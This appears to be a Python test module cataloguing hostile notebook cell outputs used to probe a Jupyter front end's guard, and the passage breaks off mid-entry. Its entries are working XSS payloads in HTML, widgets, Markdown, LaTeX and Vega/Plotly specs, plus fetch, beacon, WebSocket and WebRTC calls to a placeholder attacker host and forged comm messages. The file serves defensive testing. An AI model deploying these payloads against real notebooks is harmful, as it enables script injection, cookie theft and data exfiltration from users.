"""Hostile outputs: what a cell tries in order to act as the user who looks at it.

Each vector is the code of one cell. In it stand for
`@JS@`    a script that tries everything that this suite looks for; it has neither white space nor quotation marks nor
          angle brackets, so that it can stand anywhere
`@URL@`   an address of another host that is this vector's own
`@LOCAL@` an address of the Jupyter server that is this vector's own
`@PORT@`  a port of another host, TCP and UDP, that is this vector's own
`@NAME@`  the vector's name;
`SCRIPTED` HTML that runs the script.
"""

from __future__ import annotations

from dataclasses import dataclass

from . import frame_vectors
from . import further_vectors as further

WRITES, TOP, COOKIE, REQUESTS = "writes", "top", "cookie", "requests"
"""Effects: a file was written through the server's REST API, something was set in the top frame, the page's cookies
were read, the browser was made to send a request."""
SCRIPT = frozenset({WRITES, TOP, COOKIE, REQUESTS})
"""What a script that runs in the page has."""
FETCH = frozenset({REQUESTS})


@dataclass(frozen=True)
class Vector:
    """One attack. ``opens``: what it reaches where nothing guards; empty where the front end itself holds it."""

    name: str
    code: str
    opens: frozenset[str] = frozenset()


PREAMBLE = """\
import base64, json, time, uuid
import ipywidgets as widgets
from IPython.display import HTML, SVG, Latex, Markdown, Javascript, display, update_display
kernel = get_ipython().kernel

def show(data, metadata=None, **options):
    display(data, metadata=metadata or {}, raw=True, **options)

def html(text):
    show({"text/html": text, "text/plain": "a text"})

def forge(msg_type, content, parent=None, metadata=None, buffers=None):
    parent = kernel.get_parent() if parent is None else parent
    kernel.session.send(
        kernel.iopub_socket, msg_type, content, parent=parent, metadata=metadata, buffers=buffers,
        ident=b"kernel." + msg_type.encode(),
    )

def open_comm(state, model="HTMLModel", view="HTMLView", module="@jupyter-widgets/controls", **content):
    comm_id = uuid.uuid4().hex
    base = {"_model_module": module, "_model_module_version": "2.0.0", "_model_name": model,
            "_view_module": module, "_view_module_version": "2.0.0", "_view_name": view}
    forge("comm_open", {"comm_id": comm_id, "target_name": "jupyter.widget",
                        "data": {"state": {**base, **state}, "buffer_paths": []}, **content},
          metadata={"version": "2.1.0"})
    return comm_id

def show_model(comm_id):
    forge("display_data", {"data": {"text/plain": "a widget", "application/vnd.jupyter.widget-view+json":
          {"version_major": 2, "version_minor": 0, "model_id": comm_id}}, "metadata": {}, "transient": {}})
"""

_HTML: dict[str, tuple[str, frozenset[str]]] = {
    # name: the HTML, and what it reaches unguarded
    "script": ("<script>@JS@</script>", SCRIPT),
    "script-beside-table": ("<table><tr><td>1</td></tr></table><script>@JS@</script>", SCRIPT),
    "script-module": ('<script type="module">@JS@</script>', SCRIPT),
    "script-remote": ('<script src="@URL@/script.js"></script>', FETCH),
    "script-in-svg": ("<svg><script>@JS@</script></svg>", SCRIPT),
    "onerror": ('<img src=x onerror="@JS@">', SCRIPT),
    "onerror-unquoted-slash": ('<img/onerror="@JS@"/src="x">', SCRIPT),
    "onload-image": ('<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="@JS@" onerror="@JS@">', SCRIPT),
    "onload-style": ('<style onload="@JS@">p{}</style>', SCRIPT),
    "onload-svg": ('<svg onload="@JS@"></svg>', frozenset()),
    "onload-iframe": ('<iframe onload="@JS@"></iframe>', SCRIPT),
    "ontoggle": ('<details open ontoggle="@JS@"><summary>x</summary></details>', SCRIPT),
    "onfocus": ('<input autofocus onfocus="@JS@">', frozenset()),
    "onanimation": ('<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="@JS@">x</b>', SCRIPT),
    "svg-animate": ('<svg><animate onbegin="@JS@" attributeName=x dur=1s></svg>', SCRIPT),
    "svg-animate-href": (
        (
            '<svg width=99 height=20><a><animate attributeName=href values="javascript:@JS@"/>'
            "<text y=15>bait</text></a></svg>"
        ),
        frozenset(),
    ),
    "media-onerror": ('<video><source onerror="@JS@" src=x></video>', SCRIPT),
    "noscript-mutation": ("<noscript><p title=\"</noscript><img src=x onerror='@JS@'>\"></noscript>", SCRIPT),
    "math-mutation": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=@JS@&gt;">',
        frozenset(),
    ),
    "svg-style-mutation": ("<svg></p><style><a id=\"</style><img src=x onerror='@JS@'>\">", SCRIPT),
    "comment-mutation": ('<!--><img src=x onerror="@JS@">-->', SCRIPT),
    "template-shadow": (
        '<div><template shadowrootmode="open"><img src=x onerror="@JS@"></template></div>',
        frozenset(),
    ),
    "iframe-srcdoc": ('<iframe srcdoc="<script>@JS@</script>"></iframe>', SCRIPT),
    "iframe-javascript": ('<iframe src="javascript:@JS@"></iframe>', SCRIPT),
    "iframe-remote": ('<iframe src="@URL@/frame"></iframe>', FETCH),
    "iframe-data": ('<iframe src="data:text/html,<script>@JS@</script>"></iframe>', FETCH),
    "iframe-own-sandbox": (
        '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>@JS@</script>"></iframe>',
        SCRIPT,
    ),
    "iframe-local-page": ('<iframe src="@LOCAL@/page"></iframe>', FETCH),
    "object-javascript": ('<object data="javascript:@JS@"></object>', frozenset()),
    "object-remote": ('<object data="@URL@/object"></object>', FETCH),
    "embed-javascript": ('<embed src="javascript:@JS@">', frozenset()),
    "embed-remote": ('<embed src="@URL@/embed">', FETCH),
    "form-submit": (
        (
            '<form id="f-@NAME@" action="@URL@/form" target="t"><input name=a></form><iframe name="t"></iframe>'
            "<img src=x onerror=\"document.getElementById('f-@NAME@').submit()\">"
        ),
        FETCH,
    ),
    "form-button": ('<form action="@URL@/form" target="_blank"><button type="submit">bait</button></form>', FETCH),
    "form-formaction": ('<form><button formaction="javascript:@JS@">bait</button></form>', SCRIPT),
    "input-image": ('<input type="image" src="@URL@/input.png">', FETCH),
    "meta-refresh-frame": ("<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=@URL@/meta'>\"></iframe>", FETCH),
    "style-url": ('<style>#s-@NAME@{background:url("@URL@/bg.png")}</style><p id="s-@NAME@">x</p>', FETCH),
    "style-attribute": ("<p style=\"background-image:url('@URL@/attr.png')\">x</p>", FETCH),
    "style-escaped": ("<p style=\"background-image:\\75\\72\\6c('@URL@/attr.png')\">x</p>", FETCH),
    "style-image-set": ("<p style=\"background-image:image-set('@URL@/set.png' 1x)\">x</p>", FETCH),
    "style-list": ('<ul style="list-style-image:url(@URL@/list.png)"><li>x</li></ul>', FETCH),
    "style-content": ('<style>#c-@NAME@:before{content:url(@URL@/content.png)}</style><p id="c-@NAME@">x</p>', FETCH),
    "style-variable": ('<p style="--u:url(@URL@/var.png);background:var(--u)">x</p>', FETCH),
    "style-import": ('<style>@import "@URL@/import.css";</style>', FETCH),
    "style-font": (
        '<style>@font-face{font-family:f-@NAME@;src:url(@URL@/font)}</style><p style="font-family:f-@NAME@">x</p>',
        FETCH,
    ),
    "link-stylesheet": ('<link rel="stylesheet" href="@URL@/sheet.css">', FETCH),
    "link-prefetch": ('<link rel="prefetch" href="@URL@/prefetch">', FETCH),
    "link-preload": ('<link rel="preload" as="image" href="@URL@/preload.png">', FETCH),
    "link-modulepreload": ('<link rel="modulepreload" href="@URL@/module.js">', FETCH),
    "link-preconnect": ('<link rel="preconnect" href="http://127.0.0.1:@PORT@/">', FETCH),
    "link-icon": ('<link rel="icon" href="@URL@/icon.png">', frozenset()),
    "image-remote": ('<img src="@URL@/image.png">', FETCH),
    "image-remote-scheme": ('<img src="@URL_NO_SCHEME@/image.png">', FETCH),
    "image-local": ('<img src="@LOCAL@/image.png">', FETCH),
    "image-srcset": ('<img srcset="@URL@/set.png 1x">', FETCH),
    "picture-source": ('<picture><source srcset="@URL@/source.png"><img></picture>', FETCH),
    "video-poster": ('<video poster="@URL@/poster.png"></video>', FETCH),
    "video-source": ('<video src="@URL@/video.mp4" preload="auto"></video>', FETCH),
    "audio-source": ('<audio src="@URL@/audio.mp3" preload="auto"></audio>', FETCH),
    "table-background": ('<table background="@URL@/table.png"><tr><td>x</td></tr></table>', FETCH),
    "svg-image": ('<svg width=9 height=9><image href="@URL@/svg.png" width=9 height=9 /></svg>', FETCH),
    "svg-xlink-image": ('<svg width=9 height=9><image xlink:href="@URL@/x.png" width=9 height=9 /></svg>', FETCH),
    "svg-feimage": (
        (
            '<svg width=9 height=9><filter id="i-@NAME@"><feImage href="@URL@/fe.png"/></filter>'
            '<rect filter="url(#i-@NAME@)" width=9 height=9 /></svg>'
        ),
        FETCH,
    ),
    "svg-fill-url": ('<svg width=9 height=9><rect fill="url(@URL@/fill.svg#a)" width=9 height=9 /></svg>', FETCH),
    "svg-style-url": (
        (
            "<svg width=9 height=9><style>*{cursor:url(@URL@/cursor),auto;mask:url(@URL@/m)}</style>"
            "<rect width=9 height=9 /></svg>"
        ),
        FETCH,
    ),
    "svg-foreign": ('<svg><foreignObject><img src=x onerror="@JS@"></foreignObject></svg>', SCRIPT),
    "link-javascript": ('<a href="javascript:@JS@">bait</a>', frozenset()),
    "link-javascript-entities": ('<a href="&#106;ava&Tab;script:@JS@">bait</a>', frozenset()),
    "link-ping": ('<a href="#here" ping="@URL@/ping">bait</a>', FETCH),
    "link-data": ('<a href="data:text/html,<script>@JS@</script>">bait</a>', frozenset()),
    "speculation-rules": (
        '<script type="speculationrules">{"prefetch":[{"urls":["@URL@/speculated"],"eagerness":"immediate"}]}</script>',
        FETCH,
    ),
    "command-linker": (
        (
            '<button data-commandlinker-command="docmanager:new-untitled" '
            'data-commandlinker-args=\'{"type":"file","path":"","ext":".@NAME@"}\'>bait</button>'
        ),
        frozenset({WRITES}),
    ),
}
"""HTML that is displayed as it stands."""

_FRAMED: dict[str, tuple[str, frozenset[str]]] = {
    # name: the script, which makes the guard put it into a frame
    "fetch": ("fetch('@URL@/fetch',{mode:'no-cors'})", FETCH),
    "beacon": ("navigator.sendBeacon('@URL@/beacon')", FETCH),
    "websocket": ("new WebSocket('@URL@/socket'.replace('http','ws'))", FETCH),
    "eventsource": ("new EventSource('@URL@/events')", FETCH),
    "xhr": ("var r=new XMLHttpRequest();r.open('GET','@URL@/xhr');r.send()", FETCH),
    "image": ("new Image().src='@URL@/image'", FETCH),
    "worker": ("new Worker(URL.createObjectURL(new Blob(['fetch(`@URL@/worker`,{mode:`no-cors`})'])))", FETCH),
    "frame": ("var f=document.createElement('iframe');f.src='@URL@/frame';document.body.append(f)", FETCH),
    "object": ("var f=document.createElement('object');f.data='@URL@/object';document.body.append(f)", FETCH),
    "stylesheet": (
        "var l=document.createElement('link');l.rel='stylesheet';l.href='@URL@/sheet';document.head.append(l)",
        FETCH,
    ),
    "prefetch": (
        "var l=document.createElement('link');l.rel='prefetch';l.href='@URL@/prefetch';document.head.append(l)",
        FETCH,
    ),
    "font": ("new FontFace('f','url(@URL@/font)').load()", FETCH),
    "import": ("import('@URL@/import.js')", FETCH),
    "form": (
        "var f=document.createElement('form');f.action='@URL@/form';f.target='_blank';document.body.append(f);f.submit()",
        FETCH,
    ),
    "popup": ("window.open('@URL@/popup')", FETCH),
    "meta-refresh-nested": (
        (
            "var f=document.createElement('iframe');f.srcdoc='\\x3cmeta http-equiv=refresh content=0;url=@URL@/m\\x3e';"
            "document.body.append(f)"
        ),
        FETCH,
    ),
    "javascript-frame": (
        "var f=document.createElement('iframe');f.src='javascript:location=`@URL@/js`';document.body.append(f)",
        FETCH,
    ),
    "about-blank": (
        (
            "var f=document.createElement('iframe');document.body.append(f);var w=f.contentWindow;"
            "w.eval('fetch(`@URL@/blank`,{mode:`no-cors`})')"
        ),
        FETCH,
    ),
    "blob-frame": (
        (
            "var f=document.createElement('iframe');"
            "f.src=URL.createObjectURL(new Blob(['\\x3cscript\\x3efetch(`@URL@/b`,{mode:`no-cors`})\\x3c/script\\x3e'],"
            "{type:'text/html'}));document.body.append(f)"
        ),
        FETCH,
    ),
    "preconnect": (
        "var l=document.createElement('link');l.rel='preconnect';l.href='http://127.0.0.1:@PORT@';document.head.append(l)",
        FETCH,
    ),
    "webrtc-fresh-window": (
        (
            "var f=document.createElement('iframe');document.body.append(f);try{var P=f.contentWindow.RTCPeerConnection;"
            "var c=new P({iceServers:[{urls:'turn:127.0.0.1:@PORT@?transport=tcp',username:'a',credential:'b'}]});"
            "c.createDataChannel('d');c.setLocalDescription()}catch(e){}"
        ),
        FETCH,
    ),
    "webrtc": (
        (
            "var c=new RTCPeerConnection({iceServers:[{urls:['stun:127.0.0.1:@PORT@','turn:127.0.0.1:@PORT@?transport=tcp',"
            "'turn:127.0.0.1:@PORT@'],username:'a',credential:'b'}]});c.createDataChannel('d');c.setLocalDescription()"
        ),
        FETCH,
    ),
    "parent-message": (
        "for(var w of [parent,parent.parent,top])w.postMessage({type:'set',html:'x',height:1e9,size:1e9,width:1e9},'*')",
        frozenset(),
    ),
    "storage": ("top['pwned_@NAME@']=localStorage.length+'';", frozenset({TOP})),
}
"""Scripts in HTML: where the guard lets them run, it is in a frame of their own."""

_DESTRUCTIVE_SCRIPTS = {
    # Without a guard these would take the page that this suite looks at away.
    "self-navigation": "location='@URL@/self'",
    "self-javascript-webrtc": (
        "location='javascript:`\\x3cscript\\x3ec=new RTCPeerConnection({iceServers:[{urls:\\'turn:127.0.0.1:@PORT@?transport=tcp"
        "\\',username:1,credential:1}]});c.createDataChannel(1);c.setLocalDescription()\\x3c/script\\x3e`'"
    ),
    "self-replace": "location.replace('@URL@/self')",
    "self-javascript": "location='javascript:location=`@URL@/self`'",
    "parent-navigation": "parent.location='@URL@/parent'",
    "parent-parent-navigation": "parent.parent.location='@URL@/parent'",
    "top-navigation": "top.location='@URL@/top'",
    "open-self": "window.open('@URL@/o','_self')",
    "open-parent": "window.open('@URL@/o','_parent')",
    "open-top": "window.open('@URL@/o','_top')",
    "sibling-navigation": "for(var i=0;i!=top.length;i++)try{top[i].location='@URL@/sibling'}catch(e){}",
    "sibling-srcdoc": "for(var i=0;i!=top.length;i++)try{top[i].location='javascript:fetch(`@URL@/s`)'}catch(e){}",
    "blob-navigation": (
        "location=URL.createObjectURL(new Blob(['\\x3cscript\\x3elocation=`@URL@/b`\\x3c/script\\x3e'],{type:'text/html'}))"
    ),
    "data-navigation": "location='data:text/html,\\x3cscript\\x3elocation=`@URL@/d`\\x3c/script\\x3e'",
    "form-self": "var f=document.createElement('form');f.action='@URL@/form';document.body.append(f);f.submit()",
    "meta-refresh": (
        "var m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url=@URL@/meta';document.head.append(m)"
    ),
    "document-open": "document.open();document.write('\\x3cscript\\x3elocation=`@URL@/w`\\x3c/script\\x3e');document.close()",
    "history": "history.pushState(0,'','?x');history.back();location.reload();location.hash='@URL@'",
    "print-dialogs": "alert(1);confirm(1);prompt(1)",
}
_DESTRUCTIVE_HTML = {
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=@URL@/meta">',
    "meta-refresh-in-script-page": '<script>1</script><meta http-equiv="refresh" content="0;url=@URL@/meta">',
    "link-top": '<a href="@URL@/link" target="_top">bait</a>',
    "link-self": '<script>1</script><a href="@URL@/link" target="_self" id="l">bait</a><script>l.click()</script>',
    "link-parent": '<script>1</script><a href="@URL@/link" target="_parent" id="l">bait</a><script>l.click()</script>',
    "base": '<base href="@URL@/"><img src="base.png">',
    "base-top": '<script>1</script><base target="_top"><a href="@URL@/l" id="l">bait</a><script>l.click()</script>',
    "form-top": '<form action="@URL@/form" target="_top"><button type="submit">bait</button></form>',
    "frame-close": "</body></html></iframe></div></div><script>@JS@;location='@URL@/closed'</script>",
    "frame-quote": "\"'></iframe><script>@JS@;location='@URL@/quoted'</script>",
    "frame-comment": "<!-- <script>@JS@</script> --!><script>@JS@;location='@URL@/c'</script>",
    "own-policy": (
        '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">'
        "<script>@JS@;location='@URL@/policy'</script>"
    ),
}

_WIDGETS: dict[str, tuple[str, frozenset[str]]] = {
    "html-created": ("display(widgets.HTML(value=SCRIPTED))", SCRIPT),
    "html-updated": ("w = widgets.HTML(value='first'); display(w); w.value = SCRIPTED", SCRIPT),
    "html-script-url-frame": ("display(widgets.HTML('<iframe src=\"javascript:@JS@\"></iframe>'))", SCRIPT),
    "html-remote-image": ("display(widgets.HTML('<img src=\"@URL@/image.png\">'))", FETCH),
    "html-style": ("display(widgets.HTML('<p style=\"background:url(@URL@/bg.png)\">x</p>'))", FETCH),
    "htmlmath-created": ("display(widgets.HTMLMath(value=SCRIPTED))", SCRIPT),
    "htmlmath-updated": ("w = widgets.HTMLMath(value='first'); display(w); w.value = SCRIPTED", SCRIPT),
    "label": ("display(widgets.Label(value=SCRIPTED))", frozenset()),
    "description": ("display(widgets.Text(description=SCRIPTED, description_allow_html=True))", frozenset()),
    "description-updated": (
        "w = widgets.Text(description='x', description_allow_html=True); display(w); w.description = SCRIPTED",
        frozenset(),
    ),
    "description-remote-image": (
        "display(widgets.Text(description='<img src=\"@URL@/i.png\">', description_allow_html=True))",
        FETCH,
    ),
    "checkbox": ("display(widgets.Checkbox(description=SCRIPTED, description_allow_html=True))", frozenset()),
    "tooltip": ("display(widgets.Button(description='b', tooltip=SCRIPTED))", frozenset()),
    "placeholder": ("display(widgets.HTML(value='', placeholder=SCRIPTED))", frozenset()),
    "options": (
        "display(widgets.RadioButtons(options=[SCRIPTED, 'b']), widgets.Select(options=[SCRIPTED]))",
        frozenset(),
    ),
    "titles": ("display(widgets.Tab([widgets.Label('x')], titles=[SCRIPTED]))", frozenset()),
    "accordion-titles": ("display(widgets.Accordion([widgets.Label('x')], titles=[SCRIPTED]))", frozenset()),
    "valid-readout": ("display(widgets.Valid(value=False, readout=SCRIPTED))", frozenset()),
    "toggle-icons": (
        "display(widgets.ToggleButtons(options=['a'], tooltips=[SCRIPTED], icons=[SCRIPTED]))",
        frozenset(),
    ),
    "image-url": ("display(widgets.Image(value=b'@URL@/image.png', format='url'))", FETCH),
    "video-url": ("display(widgets.Video(value=b'@URL@/video.mp4', format='url'))", FETCH),
    "audio-url": ("display(widgets.Audio(value=b'@URL@/audio.mp3', format='url'))", FETCH),
    "image-svg": (
        (
            'display(widgets.Image(value=b\'<svg xmlns="http://www.w3.org/2000/svg" onload="@JS@">'
            "<image href=\"@URL@/svg.png\"/></svg>', format='svg+xml'))"
        ),
        frozenset(),
    ),
    "style-background": (
        "w = widgets.Label('x'); w.style.background = 'url(@URL@/background.png)'; display(w)",
        FETCH,
    ),
    "layout-border": (
        "w = widgets.Label('x'); w.layout.border = '1px solid red; background: url(@URL@/border.png)'; display(w)",
        frozenset(),
    ),
    "output-context": ("o = widgets.Output(); display(o)\nwith o:\n    html(SCRIPTED)", SCRIPT),
    "output-append": ("o = widgets.Output(); display(o); o.append_display_data(HTML(SCRIPTED))", SCRIPT),
    "output-forged-state": (
        (
            "o = widgets.Output(); display(o)\n"
            "o.outputs = ({'output_type': 'display_data', 'data': {'text/html': SCRIPTED, 'text/plain': 'x'},"
            " 'metadata': {}},)"
        ),
        SCRIPT,
    ),
    "output-list-html": (
        (
            "o = widgets.Output(); display(o)\n"
            "o.outputs = ({'output_type': 'display_data', 'data': {'text/html': [SCRIPTED], 'text/plain': 'x'},"
            " 'metadata': {}},)"
        ),
        SCRIPT,
    ),
    "output-remote-image": (
        "o = widgets.Output(); display(o); o.append_display_data(HTML('<img src=\"@URL@/o.png\">'))",
        FETCH,
    ),
    "output-script-in-frame": (
        "o = widgets.Output(); display(o); o.append_display_data(HTML('<script>@JS@</script>'))",
        SCRIPT,
    ),
    "forged-model": ("show_model(open_comm({'value': SCRIPTED}))", SCRIPT),
    "forged-target-module": (
        "show_model(open_comm({'value': SCRIPTED}, target_module='@URL@/module.js'))",
        frozenset(),
    ),
    "forged-module": (
        "show_model(open_comm({'value': SCRIPTED}, module='@URL@/module'))",
        frozenset(),
    ),
    "forged-state-update": (
        (
            "c = open_comm({'value': 'x'}); show_model(c)\n"
            "forge('comm_msg', {'comm_id': c, 'data': {'method': 'update', 'state': {'value': SCRIPTED},"
            " 'buffer_paths': []}})"
        ),
        SCRIPT,
    ),
    "forged-model-change": (
        (
            "c = open_comm({'value': SCRIPTED}, model='LabelModel', view='LabelView'); show_model(c)\n"
            "forge('comm_msg', {'comm_id': c, 'data': {'method': 'update', 'state': {'_view_name': 'HTMLView',"
            " 'value': SCRIPTED}, 'buffer_paths': []}})\n"
            "show_model(c)"
        ),
        SCRIPT,
    ),
    "forged-view-differs": (
        "show_model(open_comm({'value': SCRIPTED, 'description': ''}, model='LabelModel', view='HTMLView'))",
        SCRIPT,
    ),
    "forged-value-in-buffer": (
        (
            "c = uuid.uuid4().hex\n"
            "forge('comm_open', {'comm_id': c, 'target_name': 'jupyter.widget', 'data': {'state': {"
            "'_model_module': '@jupyter-widgets/controls', '_model_module_version': '2.0.0', '_model_name': 'HTMLModel',"
            "'_view_module': '@jupyter-widgets/controls', '_view_module_version': '2.0.0', '_view_name': 'HTMLView',"
            "'value': None}, 'buffer_paths': [['value']]}}, metadata={'version': '2.1.0'}, buffers=[SCRIPTED.encode()])\n"
            "show_model(c)"
        ),
        frozenset(),
    ),
    "echo-update": (
        (
            "c = open_comm({'value': 'x'}); show_model(c)\n"
            "forge('comm_msg', {'comm_id': c, 'data': {'method': 'echo_update', 'state': {'value': SCRIPTED},"
            " 'buffer_paths': []}})"
        ),
        SCRIPT,
    ),
    "control-comm-states": (
        (
            "c = uuid.uuid4().hex\n"
            "def on_open(comm, msg):\n"
            "    def answer(msg):\n"
            "        comm.send({'method': 'update_states', 'states': {c: {'model_name': 'HTMLModel',"
            "'model_module': '@jupyter-widgets/controls', 'model_module_version': '2.0.0', 'state': {'value': SCRIPTED,"
            "'_model_module': '@jupyter-widgets/controls', '_model_module_version': '2.0.0', '_model_name': 'HTMLModel',"
            "'_view_module': '@jupyter-widgets/controls', '_view_module_version': '2.0.0', '_view_name': 'HTMLView'}}},"
            "'buffer_paths': []})\n"
            "    comm.on_msg(answer)\n"
            "kernel.comm_manager.register_target('jupyter.widget.control', on_open)\n"
            "show_model(c)"
        ),
        frozenset(),
    ),
    "anywidget-esm": (
        (
            "import anywidget, traitlets\n"
            "class W(anywidget.AnyWidget):\n"
            "    _esm = 'export default {render(){@JS@}}'\n"
            "display(W())"
        ),
        SCRIPT,
    ),
    "anywidget-css": (
        (
            "import anywidget, traitlets\n"
            "class W(anywidget.AnyWidget):\n"
            "    _esm = 'export default {render(){}}'\n"
            "    _css = '@import \"@URL@/css.css\";'\n"
            "display(W())"
        ),
        FETCH,
    ),
}

_MARKDOWN: dict[str, tuple[str, frozenset[str]]] = {
    "html": ("SCRIPTED", SCRIPT),
    "html-in-list": ("'- a\\n  - ' + SCRIPTED", SCRIPT),
    "html-in-table": ("'|a|\\n|-|\\n|' + SCRIPTED + '|'", SCRIPT),
    "html-block": ("'<div>\\n\\n**a**\\n\\n' + SCRIPTED + '</div>'", SCRIPT),
    "html-split": ('\'<img src=x\\n\\nonerror="@JS@">\\n\\n<img src=x\\nonerror="@JS@">\'', SCRIPT),
    "html-after-fence": ("'```\\ncode\\n```\\n' + SCRIPTED", SCRIPT),
    "html-after-odd-fence": ("'~~~ `\\n```\\n~~~\\n' + SCRIPTED + '\\n```'", SCRIPT),
    "html-in-dollars": ("'$a$ ' + SCRIPTED + ' $b$'", SCRIPT),
    "html-between-dollars": ("'$ ' + SCRIPTED + ' $'", frozenset()),
    "html-after-backtick": ("'`a `` ' + SCRIPTED + ' `` b'", frozenset()),
    "html-escaped": ("'\\\\<img src=x onerror=\"@JS@\"> \\\\\\\\' + SCRIPTED", SCRIPT),
    "link-javascript": ("'[bait](<javascript:@JS@>)'", frozenset()),
    "image-onerror": ("'![x\" onerror=\"@JS@](x)'", frozenset()),
    "image-remote": ("'![x](@URL@/image.png)'", FETCH),
    "image-remote-reference": ("'![x][r]\\n\\n[r]: @URL@/image.png'", FETCH),
    "image-local": ("'![x](@LOCAL@/image.png)'", FETCH),
    "mermaid-image": ('\'```mermaid\\nflowchart TD\\n  A@{ img: "@URL@/m.png", label: "x", h: 60 }\\n```\'', FETCH),
    "mermaid-css": (
        '\'```mermaid\\n%%{init: {"themeCSS": "* {background: url(@URL@/mermaid.png)}"}}%%\\nflowchart TD\\n  A-->B\\n```\'',
        FETCH,
    ),
    "mermaid-label": ("'```mermaid\\nflowchart TD\\n  A[\"<img src=@URL@/label.png onerror=@JS@>\"]\\n```'", FETCH),
    "math-style": ("'$\\\\style{background-image:url(@URL@/math.png)}{x}$'", frozenset()),
}

_LATEX: dict[str, tuple[str, frozenset[str]]] = {
    "href": (r"r'$\href{javascript:@JS@}{bait}$'", frozenset()),
    "style": (r"r'$\style{background-image:url(@URL@/latex.png)}{x}$'", frozenset()),
    "style-require": (r"r'$\require{html}\style{background:url(@URL@/latex.png)}{x}$'", frozenset()),
    "html": ("'$x$ ' + SCRIPTED", frozenset()),
    "text": (r"r'$\text{' + SCRIPTED + '}$'", frozenset()),
    "data": (r"r'$\data{commandlinker-command=docmanager:new-untitled}{bait}$'", frozenset()),
    "require-url": (r"r'$\require{@URL@/extension.js}x$'", frozenset()),
    "includegraphics": (r"r'$\includegraphics{@URL@/graphic.png}$'", frozenset()),
}

_OTHER: dict[str, tuple[str, frozenset[str]]] = {
    "javascript": ("show({'application/javascript': \"@JS@\", 'text/plain': 'x'})", SCRIPT),
    "javascript-object": ('display(Javascript("@JS@"))', SCRIPT),
    "javascript-remote": ("display(Javascript('1', lib='@URL@/lib.js', css='@URL@/lib.css'))", FETCH),
    "text-javascript": ("show({'text/javascript': \"@JS@\", 'text/plain': 'x'})", SCRIPT),
    "ecmascript": ("show({'application/ecmascript': \"@JS@\", 'application/x-javascript': \"@JS@\"})", frozenset()),
    "repr-html": ("class R:\n    def _repr_html_(self):\n        return SCRIPTED\nR()", SCRIPT),
    "mimebundle": (
        "class R:\n    def _repr_mimebundle_(self, **k):\n        return {'text/html': SCRIPTED}\nR()",
        SCRIPT,
    ),
    "update-display": (
        "display('first', display_id='u-@NAME@')\nupdate_display(HTML(SCRIPTED), display_id='u-@NAME@')",
        SCRIPT,
    ),
    "html-in-parts": ("show({'text/html': ['<img src=x ', 'onerror=\"@JS@\">'], 'text/plain': 'x'})", frozenset()),
    "html-isolated": ("show({'text/html': SCRIPTED, 'text/plain': 'x'}, {'text/html': {'isolated': True}})", SCRIPT),
    "html-type-parameter": ("show({'text/html;charset=utf-8': SCRIPTED, 'TEXT/HTML': SCRIPTED})", frozenset()),
    "vendor-beside-html": (
        "show({'application/vnd.evil.v1+json': {}, 'text/html': SCRIPTED, 'text/plain': 'x'})",
        SCRIPT,
    ),
    "vendor-vega": (
        (
            "show({'application/vnd.vega.v5+json': {'$schema': 'https://vega.github.io/schema/vega/v5.json',"
            "'data': [{'name': 'd', 'url': '@URL@/data.json'}], 'marks': [{'type': 'image', 'encode': {'enter': {"
            "'url': {'value': '@URL@/mark.png'}, 'width': {'value': 9}, 'height': {'value': 9}}}}]}, 'text/plain': 'x'})"
        ),
        FETCH,
    ),
    "vendor-vegalite": (
        (
            "show({'application/vnd.vegalite.v5+json': {'$schema': 'https://vega.github.io/schema/vega-lite/v5.json',"
            "'data': {'url': '@URL@/data.json'}, 'mark': 'point', 'encoding': {}}, 'text/plain': 'x'})"
        ),
        FETCH,
    ),
    "vendor-vegalite-image": (
        (
            "show({'application/vnd.vegalite.v5+json': {'$schema': 'https://vega.github.io/schema/vega-lite/v5.json',"
            "'data': {'values': [{'u': '@URL@/mark.png'}]}, 'mark': {'type': 'image', 'width': 9, 'height': 9},"
            "'encoding': {'url': {'field': 'u'}}}, 'text/plain': 'x'})"
        ),
        FETCH,
    ),
    "vendor-vegalite-computed": (
        (
            "show({'application/vnd.vegalite.v5+json': {'$schema': 'https://vega.github.io/schema/vega-lite/v5.json',"
            "'data': {'values': [{'u': '@URL@'.replace('://', ':@@')}]},"
            "'transform': [{'calculate': \"replace(datum.u, '@@', '/' + '/') + '/c.png'\", 'as': 'v'}],"
            "'mark': {'type': 'image', 'width': 9, 'height': 9}, 'encoding': {'url': {'field': 'v'}}}, 'text/plain': 'x'})"
        ),
        FETCH,
    ),
    "vendor-plotly-image": (
        (
            "show({'application/vnd.plotly.v1+json': {'data': [], 'layout': {'images': [{'source': '@URL@/layout.png',"
            "'xref': 'paper', 'yref': 'paper', 'x': 0, 'y': 1, 'sizex': 1, 'sizey': 1}]}}, 'text/plain': 'x'})"
        ),
        FETCH,
    ),
    "vendor-plotly-title": (
        (
            "show({'application/vnd.plotly.v1+json': {'data': [], 'layout': {'title': {'text': "
            "'<a href=\"javascript:@JS@\">bait</a><img src=x onerror=\"@JS@\">'}}}, 'text/plain': 'x'})"
        ),
        frozenset(),
    ),
    "vendor-plotly-map": (
        (
            "show({'application/vnd.plotly.v1+json': {'data': [{'type': 'scattergeo', 'lat': [1], 'lon': [1]}],"
            "'layout': {}, 'config': {'topojsonURL': '@URL@/topo/'}}, 'text/plain': 'x'})"
        ),
        FETCH,
    ),
    "vendor-plotly-tiles": (
        (
            "show({'application/vnd.plotly.v1+json': {'data': [{'type': 'scattermap', 'lat': [1], 'lon': [1]}],"
            "'layout': {'map': {'style': '@URL@/style.json'}}}, 'text/plain': 'x'})"
        ),
        FETCH,
    ),
    "vendor-mermaid": (
        "show({'text/vnd.mermaid': 'flowchart TD\\n  A@{ img: \"@URL@/m.png\", label: \"x\", h: 60 }', 'text/plain': 'x'})",
        FETCH,
    ),
    "svg": (
        (
            'show({\'image/svg+xml\': \'<svg xmlns="http://www.w3.org/2000/svg" onload="@JS@"><script>@JS@</script>'
            '<image href="@URL@/s.png"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="@URL@/f.png" '
            "onerror=\"@JS@\"/></foreignObject></svg>', 'text/plain': 'x'})"
        ),
        frozenset(),
    ),
    "svg-stylesheet": (
        (
